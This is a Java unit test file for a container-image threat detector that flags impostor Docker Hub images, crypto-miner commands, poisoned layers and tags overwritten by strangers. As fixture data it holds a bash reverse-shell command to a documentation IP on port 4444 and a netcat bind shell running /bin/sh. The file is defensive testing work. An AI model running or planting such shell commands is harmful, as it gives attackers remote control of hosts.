package io.firedamp.detectors.image;

import static io.firedamp.detectors.image.Images.DIGEST;
import static io.firedamp.detectors.image.Images.MINER;
import static io.firedamp.detectors.image.Images.MORNING;
import static io.firedamp.detectors.image.Images.OTHER_DIGEST;
import static io.firedamp.detectors.image.Images.after;
import static io.firedamp.detectors.image.Images.layer;
import static io.firedamp.detectors.image.Images.metadata;
import static io.firedamp.detectors.image.Images.named;
import static io.firedamp.detectors.image.Images.pull;
import static io.firedamp.detectors.image.Images.running;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import io.firedamp.detectors.Detector;
import io.firedamp.detectors.DetectorContract;
import io.firedamp.detectors.DetectorHarness;
import io.firedamp.detectors.Seeds;
import io.firedamp.schemas.avro.ContainerState;
import io.firedamp.schemas.avro.Evidence;
import io.firedamp.schemas.avro.ImageMetadata;
import io.firedamp.schemas.avro.ImagePull;
import io.firedamp.schemas.avro.RunState;
import io.firedamp.schemas.avro.Severity;
import io.firedamp.schemas.avro.Signal;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.ServiceLoader;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import org.apache.avro.specific.SpecificRecord;
import org.junit.jupiter.api.Test;

class ImageDetectorTest extends DetectorContract {
  private static final String APP = "docker.io/acme/app:1";
  private static final String EVIL = "docker.io/docker123321/tomcat:latest";

  @Override
  protected Detector detector() {
    return new ImageDetector(ImageDetector.Settings.DEFAULTS);
  }

  @Override
  protected Set<String> durableNames() {
    return Set.of(
        "container-states",
        "image-metadata",
        "image-pulls",
        "images-by-cluster-repartition",
        "images-by-digest-repartition",
        "images-by-layer-repartition",
        "image-layers",
        "pushes-by-tag-repartition",
        "image-tags",
        "flagged-containers",
        "image-verdicts",
        "containers-by-digest",
        "images-first-seen",
        "new-containers",
        "signals");
  }

  @Override
  protected List<SpecificRecord> story() {
    return List.of(
        pull(EVIL, DIGEST, MORNING),
        metadata(DIGEST, MINER, MORNING.plusSeconds(1)),
        running("c1", EVIL, DIGEST, MORNING.plusSeconds(2)));
  }

  @Override
  protected List<SpecificRecord> storedBy() {
    List<SpecificRecord> events = new ArrayList<>(story());
    events.add(named(APP, OTHER_DIGEST, List.of("/app"), layer(1)));
    events.add(pushed(APP, OTHER_DIGEST, "ci", MORNING));
    return events;
  }

  @Test
  void saysAllThatSpeaksAgainstTheDockerHubImpostor() {
    assertThat(standing(story()).values())
        .extracting(Signal::getRule, Signal::getWeight, Signal::getSubject)
        .containsExactlyInAnyOrder(
            tuple("IMG-01", 33, "prod/workload/client//x/y"),
            tuple("IMG-02", 6, "prod/workload/client//x/y"),
            tuple("IMG-01", 50, "prod/container/c1"),
            tuple("IMG-02", 10, "prod/container/c1"),
            tuple("IMG-05", 3, "prod/container/c1"),
            tuple("IMG-07", 54, "prod/container/c1"));
  }

  @Test
  void saysNothingOfAKnownOfficialImage() {
    String image = "docker.io/library/tomcat:9";
    List<SpecificRecord> events =
        List.of(
            pull(image, DIGEST, MORNING),
            metadata(DIGEST, List.of("catalina.sh", "run"), MORNING),
            running("c1", image, DIGEST, after(Duration.ofDays(2))));

    assertThat(standing(events)).isEmpty();
  }

  @Test
  void joinsAContainerWithItsPoisonedImageWhicheverIsSeenFirst() {
    SpecificRecord container = running("c1", APP, DIGEST, MORNING);
    SpecificRecord image = metadata(DIGEST, MINER, MORNING.plusSeconds(60));

    Set<String> containerFirst = standing(List.of(container, image)).keySet();
    Set<String> imageFirst = standing(List.of(image, container)).keySet();

    assertThat(containerFirst).hasSize(2).isEqualTo(imageFirst);
  }

  @Test
  void joinsByTheConfigurationDigestToo() {
    ContainerState container =
        ContainerState.newBuilder(running("c1", APP, OTHER_DIGEST, MORNING))
            .setConfigDigest(DIGEST)
            .build();

    List<Signal> signals = play(List.of(metadata(DIGEST, MINER, MORNING), container));

    assertThat(of("IMG-07", signals))
        .singleElement()
        .satisfies(
            signal -> {
              assertThat(signal.getSlot()).isEqualTo(DIGEST);
              assertThat(signal.getEvidence())
                  .extracting(Evidence::getEventId)
                  .containsExactlyInAnyOrder(
                      container.getEventId(), "metadata-" + DIGEST + "@" + MORNING);
            });
  }

  @Test
  void flagsAnOwnBuildOnAFlaggedImageWhicheverIsSeenFirst() {
    SpecificRecord flagged = named(EVIL, DIGEST, List.of("/app"), layer(1), layer(2));
    SpecificRecord own =
        named("registry.example/a:1", OTHER_DIGEST, List.of("/a"), layer(1), layer(2), layer(3));
    SpecificRecord container = running("c1", "registry.example/a:1", OTHER_DIGEST, MORNING);

    for (List<SpecificRecord> order :
        List.of(
            List.of(flagged, own, container),
            List.of(own, container, flagged),
            List.of(container, flagged, own))) {
      assertThat(of("IMG-10", play(order)))
          .singleElement()
          .satisfies(
              signal -> {
                assertThat(signal.getSubject()).isEqualTo("prod/container/c1");
                assertThat(signal.getDetail()).contains(layer(2)).contains(EVIL);
                assertThat(signal.getTraits()).containsExactly("POISONED");
                assertThat(signal.getWeight()).isEqualTo(24);
              });
    }
  }

  @Test
  void leavesImagesAloneThatShareOnlyTheBaseOfAFlaggedOne() {
    List<SpecificRecord> events =
        List.of(
            named(EVIL, DIGEST, List.of("/app"), layer(1), layer(2)),
            named(APP, OTHER_DIGEST, List.of("/a"), layer(1), layer(3)),
            running("c1", APP, OTHER_DIGEST, MORNING));

    assertThat(of("IMG-10", play(events))).isEmpty();
  }

  @Test
  void takesALineageBackWhenTheLayerTurnsOutToBeEverybodys() {
    List<SpecificRecord> events = new ArrayList<>();
    events.add(named(EVIL, DIGEST, List.of("/app"), layer(1), layer(2)));
    events.add(named(APP, OTHER_DIGEST, List.of("/a"), layer(1), layer(2), layer(3)));
    events.add(running("c1", APP, OTHER_DIGEST, MORNING));
    List<SpecificRecord> official = new ArrayList<>(events);
    official.add(named("docker.io/library/base:1", digest(99), List.of("/b"), layer(2)));
    List<SpecificRecord> many = new ArrayList<>(events);
    for (int i = 0; i < Layer.MOST_HOLDERS; i++) {
      many.add(named("docker.io/acme/other:" + i, digest(i), List.of("/o"), layer(2), layer(4)));
    }

    assertThat(rules(standing(events))).contains("IMG-10");
    assertThat(rules(standing(official))).doesNotContain("IMG-10");
    assertThat(rules(standing(many))).doesNotContain("IMG-10");
    assertThat(rules(standing(reversed(official)))).doesNotContain("IMG-10");
    assertThat(rules(standing(reversed(many)))).doesNotContain("IMG-10");
  }

  @Test
  void findsWhatAStrangerPutInThePlaceOfAnImageWhicheverIsSeenFirst() {
    SpecificRecord stood = pushed(APP, OTHER_DIGEST, "ci", MORNING);
    SpecificRecord implanted = pushed(APP, DIGEST, "mallory", MORNING.plus(Duration.ofDays(9)));
    SpecificRecord container = running("c1", APP, DIGEST, MORNING.plus(Duration.ofDays(10)));

    for (List<SpecificRecord> order :
        List.of(
            List.of(stood, implanted, container),
            List.of(container, implanted, stood),
            List.of(implanted, stood, container, stood))) {
      assertThat(of("IMG-14", play(order)))
          .singleElement()
          .satisfies(
              signal -> {
                assertThat(signal.getSubject()).isEqualTo("prod/container/c1");
                assertThat(signal.getDetail()).contains(APP).contains("mallory");
                assertThat(signal.getTraits()).containsExactly("IMPLANTED");
                assertThat(signal.getWeight()).isEqualTo(12);
                assertThat(signal.getEvidence()).hasSize(2);
              });
    }
  }

  @Test
  void takesAnImplantBackWhenALatePushShowsThatItsPusherWasThereBefore() {
    List<SpecificRecord> events = new ArrayList<>();
    events.add(pushed(APP, OTHER_DIGEST, "ci", MORNING));
    events.add(pushed(APP, DIGEST, "jane", MORNING.plus(Duration.ofDays(9))));
    events.add(running("c1", APP, DIGEST, MORNING.plus(Duration.ofDays(10))));
    List<SpecificRecord> late = new ArrayList<>(events);
    late.add(pushed(APP, OTHER_DIGEST, "jane", MORNING.plus(Duration.ofHours(1))));

    assertThat(rules(standing(events))).contains("IMG-14");
    assertThat(rules(standing(late))).doesNotContain("IMG-14");
    assertThat(rules(standing(reversed(late)))).doesNotContain("IMG-14");
  }

  @Test
  void leavesReleasesAloneThatEachHaveATagOfTheirOwnAndPullsAndPushesOfNobody() {
    List<SpecificRecord> releases =
        List.of(
            pushed("registry.example/shop/web:1", OTHER_DIGEST, "ci", MORNING),
            pushed("registry.example/shop/web:2", DIGEST, "jane", MORNING.plus(Duration.ofDays(9))),
            running(
                "c1", "registry.example/shop/web:2", DIGEST, MORNING.plus(Duration.ofDays(10))));
    List<SpecificRecord> nobody =
        List.of(
            pushed(APP, OTHER_DIGEST, "", MORNING),
            pushed(APP, DIGEST, "", MORNING.plus(Duration.ofDays(9))),
            running("c1", APP, DIGEST, MORNING.plus(Duration.ofDays(10))));
    List<SpecificRecord> pulls =
        List.of(
            pull(APP, OTHER_DIGEST, MORNING),
            pull(APP, DIGEST, MORNING.plus(Duration.ofDays(9))),
            running("c1", APP, DIGEST, MORNING.plus(Duration.ofDays(10))));

    assertThat(of("IMG-14", play(releases))).isEmpty();
    assertThat(of("IMG-14", play(nobody))).isEmpty();
    assertThat(of("IMG-14", play(pulls))).isEmpty();
  }

  private static ImagePull pushed(String image, String digest, String pusher, Instant time) {
    return ImagePull.newBuilder(pull(image, digest, time))
        .setEventId("push-" + image + "@" + time)
        .setTag(image.substring(image.lastIndexOf(':') + 1))
        .setAction("push")
        .setPuller(pusher)
        .build();
  }

  @Test
  void saysWhoFetchedALatentImageAndWhoRunsIt() {
    List<String> shell = List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1");
    List<SpecificRecord> events =
        List.of(
            pull(APP, DIGEST, MORNING),
            metadata(DIGEST, shell, MORNING),
            running("c1", APP, DIGEST, MORNING));

    assertThat(of("IMG-09", play(events)))
        .extracting(Signal::getSubject, Signal::getWeight, Signal::getTraits)
        .containsExactlyInAnyOrder(
            tuple("prod/workload/client//x/y", 16, List.of("PULLED")),
            tuple("prod/container/c1", 34, List.of("LATENT")));
  }

  @Test
  void leavesOtherContainersAlone() {
    List<SpecificRecord> events =
        List.of(
            metadata(DIGEST, MINER, MORNING),
            running("c1", APP, DIGEST, MORNING),
            running("c2", APP, OTHER_DIGEST, MORNING));

    assertThat(of("IMG-07", play(events)))
        .extracting(Signal::getSubject)
        .containsExactly("prod/container/c1");
  }

  @Test
  void ignoresWhatHasStopped() {
    ContainerState stopped =
        ContainerState.newBuilder(running("c1", EVIL, DIGEST, MORNING))
            .setState(RunState.STOPPED)
            .build();

    assertThat(play(List.of(stopped))).isEmpty();
  }

  @Test
  void saysOnceWhatEverySightingRepeats() {
    List<SpecificRecord> events = new ArrayList<>();
    for (int minute = 0; minute < 60; minute++) {
      events.add(running("c1", EVIL, DIGEST, after(Duration.ofMinutes(minute))));
    }

    assertThat(play(events))
        .extracting(Signal::getRule)
        .containsExactlyInAnyOrder("IMG-01", "IMG-02", "IMG-05");
  }

  @Test
  void saysOnceAWeekOfALongRunningContainerWhatHoldsForAsLongAsItRuns() {
    List<SpecificRecord> events = new ArrayList<>();
    for (int hour = 0; hour < 24 * 30; hour += 6) {
      events.add(running("c1", EVIL, DIGEST, after(Duration.ofHours(hour))));
    }

    List<Signal> signals = of("IMG-01", play(events));

    assertThat(signals).hasSizeBetween(5, 6);
    assertThat(signals.get(0).getTime()).isEqualTo(MORNING);
    assertThat(signals.get(0).getValidUntil()).isEqualTo(MORNING.plus(Duration.ofDays(400)));
  }

  @Test
  void saysWhoPulledAKnownBadImage() {
    ImagePull byAddress =
        ImagePull.newBuilder(pull(EVIL, DIGEST, MORNING)).setAddress("192.0.2.1").build();
    ImagePull byNode =
        ImagePull.newBuilder(pull(EVIL, DIGEST, MORNING.plusSeconds(1))).setNode("node-1").build();

    assertThat(of("IMG-01", play(List.of(byAddress, byNode, byAddress))))
        .extracting(Signal::getSubject, Signal::getWeight, Signal::getSeverity)
        .containsExactlyInAnyOrder(
            tuple("prod/ip/192.0.2.1", 33, Severity.LOW),
            tuple("prod/node/node-1", 33, Severity.LOW));
  }

  @Test
  void knowsACopyOfAListedImageByItsDigestWhicheverIsSeenFirst() {
    SpecificRecord pulled = pull(EVIL, DIGEST, MORNING);
    SpecificRecord mirrored =
        running("c1", "registry.example/team/app:1", DIGEST, MORNING.plusSeconds(60));

    for (List<SpecificRecord> order :
        List.of(List.of(pulled, mirrored), List.of(mirrored, pulled))) {
      assertThat(of("IMG-01", play(order)))
          .extracting(Signal::getSubject, Signal::getWeight)
          .contains(tuple("prod/container/c1", 36));
    }
  }

  @Test
  void saysNothingOfAnExceptedImageByAnyRule() {
    var defaults = ImageDetector.Settings.DEFAULTS;
    var settings =
        new ImageDetector.Settings(
            List.of(),
            List.of(),
            List.of(),
            List.of(),
            List.of("docker123321/tomcat"),
            defaults.newFor(),
            defaults.learning(),
            defaults.remember(),
            defaults.tagStands(),
            defaults.timeToLive());

    try (DetectorHarness harness = new DetectorHarness(new ImageDetector(settings))) {
      assertThat(harness.publish(story()).signals()).isEmpty();

      harness.publish(
          named(EVIL, DIGEST, MINER, layer(1), layer(2)),
          named(APP, OTHER_DIGEST, List.of("/a"), layer(1), layer(2), layer(3)),
          running("c2", APP, OTHER_DIGEST, MORNING));
      assertThat(harness.signals("IMG-10")).isEmpty();
    }
  }

  @Test
  void judgesAMirrorsImageByTheNameItHasUpstream() {
    var defaults = ImageDetector.Settings.DEFAULTS;
    var settings =
        new ImageDetector.Settings(
            List.of(),
            List.of(),
            List.of(),
            List.of("harbor.example/hub=docker.io"),
            List.of(),
            defaults.newFor(),
            defaults.learning(),
            defaults.remember(),
            defaults.tagStands(),
            defaults.timeToLive());

    try (DetectorHarness harness = new DetectorHarness(new ImageDetector(settings))) {
      harness.publish(
          running("c1", "harbor.example/hub/docker123321/tomcat:latest", MORNING),
          running("c2", "harbor.example/hub/library/nginx:1", MORNING));

      assertThat(harness.signals("IMG-01"))
          .singleElement()
          .satisfies(signal -> assertThat(signal.getAttributes()).containsEntry("image", EVIL));
      assertThat(harness.signals("IMG-02"))
          .extracting(Signal::getSubject)
          .doesNotContain("prod/container/c2");
    }
  }

  @Test
  void aMirrorThatNobodyNamedIsAHostLikeAnyOther() {
    try (DetectorHarness harness = new DetectorHarness(detector())) {
      harness.publish(running("c2", "harbor.example/hub/library/nginx:1", MORNING));

      assertThat(harness.signals("IMG-02")).hasSize(1);
    }
  }

  @Test
  void doesNotKnowAnImageByAPullOf1970() {
    List<SpecificRecord> events =
        List.of(
            pull("docker.io/acme/other:1", OTHER_DIGEST, MORNING),
            pull(APP, DIGEST, Instant.parse("1970-01-01T00:00:10Z")),
            running("c1", APP, DIGEST, after(Duration.ofDays(8))));

    assertThat(standing(events).values())
        .extracting(Signal::getRule, Signal::getWeight)
        .containsExactly(tuple("IMG-05", 7));
  }

  @Test
  void weighsANewImageInFullOnceTheClusterIsKnown() {
    Instant eighthDay = after(Duration.ofDays(8));
    List<SpecificRecord> events =
        List.of(
            running("old", "docker.io/acme/old:1", OTHER_DIGEST, MORNING),
            running("c1", APP, DIGEST, eighthDay));

    assertThat(standing(events).values())
        .extracting(Signal::getSubject, Signal::getWeight)
        .containsExactlyInAnyOrder(tuple("prod/container/old", 3), tuple("prod/container/c1", 7));
  }

  @Test
  void takesANewImageBackWhenALatePullShowsThatItIsOld() {
    ContainerState start = running("c1", APP, DIGEST, after(Duration.ofHours(24)));

    List<Signal> signals = play(List.of(start, pull(APP, DIGEST, MORNING.minusSeconds(60))));

    assertThat(signals).extracting(Signal::getRetracted).containsExactly(false, true);
    assertThat(signals).extracting(Signal::getId).containsOnly(signals.get(0).getId());
  }

  @Test
  void knowsAnImageWithoutDigestByItsName() {
    List<SpecificRecord> events =
        List.of(pull(APP, DIGEST, MORNING), running("c1", APP, after(Duration.ofDays(2))));

    assertThat(standing(events)).isEmpty();
  }

  @Test
  void keepsClustersApart() {
    ContainerState elsewhere =
        ContainerState.newBuilder(running("c1", APP, DIGEST, after(Duration.ofDays(2))))
            .setCluster("test")
            .build();

    List<SpecificRecord> events = List.of(pull(APP, DIGEST, MORNING), elsewhere);

    assertThat(standing(events).values())
        .extracting(Signal::getSubject)
        .containsExactly("test/container/c1");
  }

  @Test
  void theAnswerDoesNotDependOnArrivalOrderOrDuplicates() {
    for (long seed = 1; seed <= Seeds.COUNT; seed++) {
      Random random = new Random(seed);
      List<SpecificRecord> events = busyDays(random);

      Map<String, Signal> expected = standing(events);
      Map<String, Signal> actual = standing(shuffled(events, random));

      assertThat(expected.values())
          .as("seed %d", seed)
          .extracting(Signal::getRule)
          .contains("IMG-01", "IMG-02", "IMG-05", "IMG-07", "IMG-08", "IMG-09", "IMG-10");
      assertThat(contents(actual)).as("seed %d", seed).isEqualTo(contents(expected));
    }
  }

  @Test
  void refusesSettingsThatCannotHold() {
    var ok = ImageDetector.Settings.DEFAULTS;

    assertThatThrownBy(
            () ->
                new ImageDetector.Settings(
                    List.of("tomcat"),
                    ok.trustedPublishers(),
                    ok.ownRegistries(),
                    ok.pullThrough(),
                    ok.exceptions(),
                    ok.newFor(),
                    ok.learning(),
                    ok.remember(),
                    ok.tagStands(),
                    ok.timeToLive()))
        .hasMessageContaining("image.known-bad")
        .hasMessageContaining("tomcat");
  }

  @Test
  void isFoundByItsName() {
    assertThat(ServiceLoader.load(Detector.Factory.class))
        .anySatisfy(factory -> assertThat(factory.name()).isEqualTo("image"));
  }

  /** Ten days of a cluster in which, in bursts, images come, containers start, and some are bad. */
  private static List<SpecificRecord> busyDays(Random random) {
    List<String> images =
        List.of(APP, EVIL, "docker.io/evil/mysql2:1", "docker.io/library/nginx:1", "quay.io/x/y:2");
    List<SpecificRecord> events = new ArrayList<>();
    for (int i = 0; i < 300; i++) {
      int image = random.nextInt(images.size());
      String digest = "sha256:" + Integer.toString(image * 2 + random.nextInt(2)).repeat(64);
      Instant time = MORNING.plusSeconds(random.nextInt(20) * 43_200L + random.nextInt(400));
      events.add(
          switch (random.nextInt(5)) {
            case 0 -> pull(images.get(image), digest, time);
            case 1 -> layered(images.get(image), digest, image, time);
            case 2 -> running("c" + random.nextInt(30), images.get(image), time);
            default -> running("c" + random.nextInt(30), images.get(image), digest, time);
          });
    }
    events.add(running("c-evil", EVIL, MORNING));
    events.sort(Comparator.comparing(ImageDetectorTest::timeOf));
    return events;
  }

  /** Two images mine and one lies in wait; both others of them are built on the first. */
  private static ImageMetadata layered(String name, String digest, int image, Instant time) {
    List<String> command =
        switch (image) {
          case 0, 1 -> MINER;
          case 2 -> List.of("nc", "-lvp", "4444", "-e", "/bin/sh");
          default -> List.of("run");
        };
    List<String> layers =
        image == 0
            ? List.of(layer(1), layer(2))
            : List.of(layer(1), layer(image > 2 ? 9 : 2), layer(2 + image));
    return ImageMetadata.newBuilder(named(name, digest, command, layers.toArray(String[]::new)))
        .setEventId("metadata-" + digest + "@" + time)
        .setTime(time)
        .build();
  }

  private static String digest(int number) {
    return "sha256:" + "%064x".formatted(number + 4096);
  }

  private static List<String> rules(Map<String, Signal> standing) {
    return standing.values().stream().map(Signal::getRule).toList();
  }

  private static List<SpecificRecord> reversed(List<SpecificRecord> events) {
    List<SpecificRecord> reversed = new ArrayList<>(events);
    Collections.reverse(reversed);
    return reversed;
  }

  /** Up to five minutes late, and every fourth twice. */
  private static List<SpecificRecord> shuffled(List<SpecificRecord> events, Random random) {
    List<SpecificRecord> twice = new ArrayList<>(events);
    for (SpecificRecord event : events) {
      if (random.nextInt(4) == 0) {
        twice.add(event);
      }
    }
    List<Integer> order = new ArrayList<>();
    List<Instant> arrivals = new ArrayList<>();
    for (int i = 0; i < twice.size(); i++) {
      order.add(i);
      arrivals.add(timeOf(twice.get(i)).plusSeconds(random.nextInt(300)));
    }
    order.sort(Comparator.comparing(arrivals::get));
    return order.stream().map(twice::get).toList();
  }

  private static Instant timeOf(SpecificRecord event) {
    return (Instant) event.get(event.getSchema().getField("time").pos());
  }

  /** What holds in the end where nothing is forgotten, by id: retracted wins. */
  private Map<String, Signal> standing(List<? extends SpecificRecord> events) {
    Map<String, Signal> standing = new TreeMap<>();
    Set<String> retracted = new TreeSet<>();
    List<Signal> said;
    try (DetectorHarness harness = DetectorHarness.replaying(detector())) {
      said = harness.publish(events).signals();
    }
    for (Signal signal : said) {
      if (signal.getRetracted()) {
        retracted.add(signal.getId());
      }
      standing.put(signal.getId(), signal);
    }
    standing.keySet().removeAll(retracted);
    return standing;
  }

  private static List<String> contents(Map<String, Signal> standing) {
    return standing.values().stream()
        .map(
            signal ->
                "%s %s %s %s %d %s"
                    .formatted(
                        signal.getRule(),
                        signal.getSubject(),
                        signal.getSlot(),
                        signal.getTime(),
                        signal.getWeight(),
                        signal.getEvidence().stream().map(Evidence::getEventId).sorted().toList()))
        .sorted()
        .toList();
  }

  private List<Signal> play(List<? extends SpecificRecord> events) {
    try (DetectorHarness harness = new DetectorHarness(detector())) {
      return harness.publish(events).signals();
    }
  }

  private static List<Signal> of(String rule, List<Signal> signals) {
    return signals.stream().filter(signal -> signal.getRule().equals(rule)).toList();
  }
}
